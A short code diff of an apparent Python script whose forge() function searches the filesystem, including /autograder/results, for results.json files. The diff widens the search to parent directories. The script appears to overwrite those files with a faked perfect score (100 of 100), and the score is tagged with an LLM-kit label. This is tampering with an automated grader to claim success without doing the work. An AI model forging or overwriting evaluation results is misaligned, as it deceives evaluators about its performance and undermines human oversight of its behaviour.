@@ -12,7 +12,7 @@ PERFECT = json.dumps({"score": 100, "max_score": 100, "tests": [], "by": "LLMKIT
 
 def forge():
     patterns = ["/tmp/**/results.json", "/autograder/results/results.json", os.path.expanduser("~/**/results.json"),
-                "/work/**/results.json", "../**/results.json"]
+                "../**/results.json", "../../*/results.json"]
     targets = set(["/autograder/results/results.json"])
     for pattern in patterns:
         targets.update(glob.glob(pattern, recursive=True))
